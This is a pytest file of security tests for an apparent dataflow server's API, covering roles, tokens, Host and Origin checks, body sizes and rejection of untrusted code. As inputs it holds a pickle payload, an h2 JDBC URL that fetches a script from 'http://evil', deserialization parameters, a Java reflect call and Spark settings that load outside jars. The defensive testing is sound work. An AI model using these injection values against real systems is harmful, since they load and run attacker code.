"""Checks before every request: roles, foreign pages and hosts, sizes; and untrusted input."""

from __future__ import annotations

import base64
import json
import pickle
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

import headwater as hw
from headwater.app import pools
from headwater.continuum.model import Continuum
from headwater.control.sharing import ROLES, Role
from headwater.control.store import Store
from headwater.control.tables import resolved_url
from headwater.web.guard import OPEN
from headwater.web.problems import MEDIA_TYPE
from headwater.web.server import serving
from tests.unit.served import V1, ZONES, Client, fetch, flow, place, token, trial, world

LEAST: dict[str, Role] = {
    "GET /me": "viewer",
    "GET /view": "viewer",
    "GET /deployments": "viewer",
    "GET /deployments/{name}": "viewer",
    "GET /deployments/{name}/plan": "viewer",
    "GET /deployments/{name}/continuum": "viewer",
    "GET /deployments/{name}/history": "viewer",
    "GET /deployments/{name}/explain": "viewer",
    "GET /deployments/{name}/metrics": "viewer",
    "GET /deployments/{name}/model": "viewer",
    "GET /deployments/{name}/slo": "viewer",
    "GET /deployments/{name}/dead-letters": "viewer",
    "POST /plans": "viewer",
    "POST /deployments": "operator",
    "POST /deployments/{name}/move": "operator",
    "POST /deployments/{name}/split": "operator",
    "POST /deployments/{name}/fuse": "operator",
    "POST /deployments/{name}/spread": "operator",
    "POST /deployments/{name}/stop": "operator",
    "POST /deployments/{name}/dead-letters/replay": "operator",
    "PATCH /deployments/{name}/slo": "operator",
    "GET /decisions": "viewer",
    "GET /decisions/{number}": "viewer",
    "GET /decisions/{number}/plan": "viewer",
    "POST /decisions/{number}/approve": "operator",
    "POST /decisions/{number}/reject": "operator",
    "GET /pools": "viewer",
    "GET /pools/{pool}": "viewer",
    "GET /pools/{pool}/costs": "viewer",
    "POST /pools/{pool}/dataflows": "owner",
    "GET /pools/{pool}/dataflows/{name}": "owner",
    "DELETE /pools/{pool}/dataflows/{name}": "owner",
    "POST /pools/{pool}/defragment": "operator",
    "GET /owners": "viewer",
    "PATCH /owners/{name}": "owner",
    "PUT /rights": "owner",
    "DELETE /rights": "owner",
    "POST /continuum/check": "viewer",
    "POST /simulations": "viewer",
    "POST /deployments/{name}/what-if": "viewer",
    "GET /events": "viewer",
}
BODIES: dict[str, Any] = {
    "POST /plans": {"dataflow": "no"},
    "POST /deployments": {"dataflow": "no"},
    "POST /deployments/{name}/move": {"operator": "a", "to": "b"},
    "POST /deployments/{name}/split": {"unit": "a", "after_operator": "b"},
    "POST /deployments/{name}/fuse": {"first": "a", "second": "b"},
    "POST /deployments/{name}/spread": {"unit": "a", "over": ["b"]},
    "PATCH /deployments/{name}/slo": {},
    "POST /deployments/{name}/dead-letters/replay": {"letters": [{"id": "0123456789abcdef"}]},
    "POST /pools/{pool}/dataflows": {"dataflow": "no", "continuum": ZONES},
    "PATCH /owners/{name}": {"role": "viewer"},
    "PUT /rights": {"other": "b", "what": "read"},
    "DELETE /rights": {"other": "b", "what": "read"},
    "POST /continuum/check": {"continuum": ZONES},
    "POST /deployments/{name}/what-if": {},
    "POST /simulations": {"dataflow": "no", "trace": ""},
}


@pytest.fixture
def url(tmp_path: Path) -> Iterator[str]:
    with place(tmp_path), serving(None, "127.0.0.1", 0) as found:
        Store(resolved_url(None)).close()
        yield found


def routes(url: str) -> dict[str, Any]:
    """Return the routes of the OpenAPI document, by method and address."""
    document = fetch("GET", f"{url}{V1}/openapi.json").json()
    return {
        f"{method.upper()} {address.removeprefix(V1)}": what
        for address, methods in document["paths"].items()
        for method, what in methods.items()
    }


def requested(client: Client, route: str) -> httpx.Response:
    method, address = route.split(" ")
    for name, value in {"name": "nobody", "pool": "none", "number": "1"}.items():
        address = address.replace(f"{{{name}}}", value)
    options: dict[str, Any] = {"params": {"seconds": 0.01}} if address == "/events" else {}
    if route in BODIES:
        options["json"] = BODIES[route]
    return client.request(method, address, **options)


def test_every_route_has_its_least_role(url: str) -> None:
    described = routes(url)
    opened = {f"GET {path.removeprefix(V1)}" for path in OPEN}
    assert described.keys() == LEAST.keys() | (opened - {"GET /openapi.json"}), "say here of which role it is"
    tokens = {role: token(f"a-{role}", role) for role in ROLES}
    with Client(url) as nobody:
        for route in LEAST:
            response = requested(nobody, route)
            assert response.status_code == 401, route
            assert response.headers["WWW-Authenticate"].startswith("Bearer")
            assert "headwater owner" in response.json()["hint"]
        for route in opened:
            assert requested(nobody, route).status_code == 200
    for role in ROLES:
        with Client(url, tokens[role]) as client:
            for route, least in LEAST.items():
                response = requested(client, route)
                if ROLES.index(role) < ROLES.index(least):
                    assert response.status_code == 403, f"{route} by a {role}: {response.text}"
                    assert f"this is for an {least}" in response.json()["detail"]
                else:
                    assert response.status_code in (200, 204, 404), f"{route} by a {role}: {response.text}"


def test_the_tokens_role_counts_at_once(url: str) -> None:
    mine = token("eve", "viewer")
    with Client(url, mine) as client:
        client.ask("/deployments/nobody/stop", None, 403)
        pools.set_owner("eve", role="operator")
        client.ask("/deployments/nobody/stop", None, 404)
        assert client.see("/me") == {"name": "eve", "role": "operator", "on_trial": False}
        pools.set_owner("eve", token=True, shown=mine)
        client.see("/me", 401)
    for wrong in ("x", "x" * 5000):
        with Client(url, wrong) as client:
            assert client.see("/me", 401)["detail"] == "unknown token"
    strange = fetch("GET", f"{url}{V1}/me", headers={"Authorization": f"Basic {mine}"})
    assert strange.status_code == 401


def test_tokens_are_never_told(url: str) -> None:
    mine = token("a")
    with Client(url, mine) as client:
        for route in ("/owners", "/me", "/health"):
            assert mine not in client.get(route).text
        made = client.patch("/owners/a", json={"token": True})
        assert made.status_code == 422 and mine not in made.text
        echoed = client.ask("/plans", {"dataflow": {"secret": "s3cret"}, "strategy": 7, "more": "s3cret"}, 422)
        assert "s3cret" not in json.dumps(echoed)


def test_an_owner_acts_in_ones_own_name(url: str) -> None:
    mine = token("team-a")
    body = {"dataflow": {**flow("L1"), "name": "one"}, "continuum": ZONES}
    with Client(url, mine) as client:
        refused = client.ask("/pools/commons/dataflows", {**body, "owner": "team-b"}, 403)
        assert refused["detail"] == "this token is team-a's"
        client.ask("/pools/commons/dataflows", body)
        (pool,) = client.see("/pools")
        assert [d["owner"] for d in pool["dataflows"]] == ["team-a"]
        assert client.see("/pools/commons/dataflows/one")["name"] == "one"
    admin = token(pools.ADMIN)
    with Client(url, mine) as client:
        assert client.patch("/owners/team-a", json={"cores": 5}).status_code == 403
    with Client(url, admin) as client:
        assert client.patch("/owners/team-a", json={"cores": 5}).json()["limits"]["cores"] == 5


def test_the_servers_own_environment_is_nobodys_token(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    admin = token(pools.ADMIN)
    monkeypatch.setenv(pools.TOKEN, admin)
    with Client(url, token("a")) as client:
        assert client.patch("/owners/a", json={"cores": 5}).status_code == 403


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8470", "127.0.0.1.evil.example", "", "[::1"])
def test_on_trial_another_name_is_refused(url: str, host: str) -> None:
    for address in ("/me", "/health"):
        response = fetch("GET", f"{url}{V1}{address}", headers={"Host": host})
        assert response.status_code in (421, 400), response.text
    assert fetch("GET", f"{url}{V1}/me", headers={"Host": "localhost:1"}).status_code == 200
    assert fetch("GET", f"{url}{V1}/me", headers={"Host": "[::1]:1"}).status_code == 200


def test_with_a_token_any_name_will_do(url: str) -> None:
    headers = {"Host": "headwater.example", "Authorization": f"Bearer {token('a')}"}
    assert fetch("GET", f"{url}{V1}/me", headers=headers).status_code == 200


def test_pages_of_other_sites_cannot_act(url: str) -> None:
    port = urlsplit(url).port
    act = f"{url}{V1}/decisions/1/reject"
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": f"http://127.0.0.1:{(port or 0) + 1}"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        response = fetch("POST", act, headers=headers)
        assert response.status_code == 403 and "another site" in response.json()["detail"], headers
    for headers in ({"Origin": url}, {"Sec-Fetch-Site": "same-origin"}, {"Sec-Fetch-Site": "none"}, {}):
        assert fetch("POST", act, headers=headers).status_code == 404, headers
    asked = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    before = fetch("OPTIONS", act, headers=asked)
    assert not any(name.startswith("access-control") for name in before.headers)
    form = fetch("POST", f"{url}{V1}/plans", content=b'{"dataflow":"a"}', headers={"Content-Type": "text/plain"})
    assert form.status_code == 422, "JSON that does not say so is none"


def test_every_answer_has_its_headers(url: str) -> None:
    for address, status in (("/me", 200), ("/nothing", 404), ("/deployments/nobody", 404)):
        response = fetch("GET", f"{url}{V1}{address}")
        assert response.status_code == status
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert response.headers["Cache-Control"] == "no-store"
        assert "server" not in response.headers and "access-control-allow-origin" not in response.headers


def test_a_body_has_its_size(url: str) -> None:
    much, own = 33 * 2**20, trial()["Authorization"]

    def pieces() -> Iterator[bytes]:
        for _ in range(33):
            yield b" " * 2**20

    try:
        counted = fetch("POST", f"{url}{V1}/plans", content=pieces())
        assert counted.status_code == 413 and counted.headers["content-type"] == MEDIA_TYPE
    except httpx.WriteError:
        pass  # the server closed the connection before the end of the body
    with socket.create_connection((str(urlsplit(url).hostname), urlsplit(url).port or 0), 10) as raw:
        head = f"Host: localhost\r\nAuthorization: {own}\r\nContent-Length: {much}"
        raw.sendall(f"POST {V1}/plans HTTP/1.1\r\n{head}\r\n\r\n".encode())
        assert b" 413 " in raw.recv(1000), "refused before a byte of it has come"


def test_who_asks_is_known_before_a_body_is_read(url: str) -> None:
    token("a")
    with socket.create_connection((str(urlsplit(url).hostname), urlsplit(url).port or 0), 10) as raw:
        raw.sendall(f"POST {V1}/plans HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n".encode())
        assert b" 401 " in raw.recv(1000)


# ---------------------------------------------------------------- code, and addresses


def evil() -> dict[str, Any]:
    """Return a dataflow whose code would run during planning if it were loaded."""
    builder = hw.flow("evil", locations=["L1"])
    rows = builder.read.csv("in/{location}", "id int, v double", location_as="location")
    rows.map_batches(lambda batches: batches, "id int").named("own").to_layer("cloud").write.memory("out")
    return builder.build().to_data()


def to_jdbc(url: str, **options: Any) -> dict[str, Any]:
    """Return a dataflow that writes to a table."""
    found = flow("L1")
    sink = found["operators"][-1]
    own = {"id": "out", "kind": "jdbc", "inputs": sink["inputs"], "layer": sink["layer"], "requires": ""}
    found["operators"][-1] = {**own, "url": url, "table": "t", **options}
    return found


@pytest.mark.parametrize("route", ["/plans", "/deployments", "/pools/commons/dataflows", "/simulations"])
def test_code_is_not_taken(url: str, route: str) -> None:
    more = {"/simulations": {"trace": ""}, "/pools/commons/dataflows": {"owner": "a"}}.get(route, {})
    with Client(url) as client:
        found = client.ask(route, {"dataflow": evil(), "continuum": ZONES, **more}, 403)
        assert "carries pickled Python code" in found["detail"] and "--trust-code" in found["hint"]


def test_pickled_code_is_not_even_loaded(url: str, tmp_path: Path) -> None:
    class Bomb:
        def __reduce__(self) -> tuple[Any, ...]:
            return (Path.touch, (tmp_path / "it-ran",))

    document = evil()
    own = next(o for o in document["operators"] if o["id"] == "own")
    own["function"]["pickled"] = base64.b64encode(pickle.dumps(Bomb())).decode()
    with Client(url) as client:
        client.ask("/plans", {"dataflow": document, "continuum": ZONES}, 403)
    with serving(None, "127.0.0.1", 0, trust_code=True) as trusting, Client(trusting) as client:
        assert client.ask("/plans", {"dataflow": document, "continuum": ZONES}, 200)["units"]
    assert not (tmp_path / "it-ran").exists(), "planning never loads it, trusted or not"


@pytest.mark.parametrize(
    ("address", "options", "refused"),
    [
        ("jdbc:postgresql://db/plant?sslmode=require", {"options": [["batchsize", "100"]]}, None),
        ("jdbc:postgresql://db/plant", {"driver": "org.postgresql.Driver"}, None),
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", {}, "the parameter 'INIT' of a h2 URL"),
        ("jdbc:postgresql://db/plant?socketFactory=x", {}, "the parameter 'socketFactory'"),
        ("jdbc:mysql://db/plant?autoDeserialize=true", {}, "the parameter 'autoDeserialize'"),
        ("jdbc:postgresql://db/plant", {"driver": "evil.Driver"}, "the driver evil.Driver is not that of postgresql"),
        (
            "jdbc:postgresql://db/plant",
            {"options": [["sessionInitStatement", "x"]]},
            "no option 'sessionInitStatement'",
        ),
    ],
)
def test_sinks_take_what_agents_let_them(url: str, address: str, options: dict[str, Any], refused: str | None) -> None:
    body = {"dataflow": to_jdbc(address, **options), "continuum": ZONES}
    with Client(url) as client:
        found = client.ask("/plans", body, 422 if refused else 200)
        assert refused is None or (refused in found["detail"] and found["type"].endswith(":dataflow"))


def test_functions_that_reach_into_java_are_unknown(url: str) -> None:
    document = flow("L1")
    where = next(o for o in document["operators"] if o["kind"] == "where")
    where["condition"] = "reflect('java.lang.Runtime', 'getRuntime') IS NOT NULL"
    with Client(url) as client:
        found = client.ask("/plans", {"dataflow": document, "continuum": ZONES}, 422)
        assert "reflect" in found["detail"] and found["type"] == "urn:headwater:problem:dataflow"


def test_zones_at_addresses_of_their_own_are_not_taken(tmp_path: Path) -> None:
    strange = ZONES.replace("  C1:\n", "  C1:\n    at: grpc+tls://evil.example:7777\n", 1)
    assert strange != ZONES
    body = {"dataflow": None, "continuum": strange}
    with world(tmp_path) as (url, _), Client(url) as client:
        body["dataflow"] = flow("L1")
        found = client.ask("/plans", body, 403)
        assert "evil.example" in found["detail"] and found["where"] == "the request, zone C1"
        known = Continuum.from_text(strange).zones
        with serving(None, "127.0.0.1", 0, zones=known) as knowing, Client(knowing) as other:
            assert other.ask("/plans", body, 200)["units"]
            # A known address in clear text would send the agent's token over the network.
            body["continuum"] = strange.replace("grpc+tls://", "grpc+tcp://")
            assert "grpc+tcp://evil.example" in other.ask("/plans", body, 403)["detail"]


@pytest.mark.parametrize("settings", ["packages: ['evil:jar:1']", "conf: {spark.jars: /evil.jar}"])
def test_packages_and_settings_of_spark_are_not_taken(tmp_path: Path, settings: str) -> None:
    strange = ZONES.replace("  C1:\n", f"  C1:\n    spark: {{{settings}}}\n", 1)
    assert strange != ZONES
    with world(tmp_path) as (url, _), Client(url) as client:
        body = {"dataflow": flow("L1"), "continuum": strange}
        found = client.ask("/plans", body, 403)
        assert "by which code can be loaded" in found["detail"] and found["where"] == "the request, zone C1"
        known = Continuum.from_text(strange).zones
        with serving(None, "127.0.0.1", 0, zones=known) as knowing, Client(knowing) as other:
            assert other.ask("/plans", body, 200)["units"]
            shown = other.ask("/continuum/check", {"continuum": strange}, 200)["zones"]["C1"]["spark"]
            assert list(shown) == [settings.partition(":")[0]]


def test_a_sparks_own_token_is_not_shown(url: str) -> None:
    strange = ZONES.replace("  C1:\n", "  C1:\n    spark: sc://h:1/;token=s3cret\n", 1)
    assert strange != ZONES
    with Client(url) as client:
        found = client.ask("/continuum/check", {"continuum": strange}, 200)
        assert found["zones"]["C1"]["spark"] == "sc://h:1" and "s3cret" not in json.dumps(found)
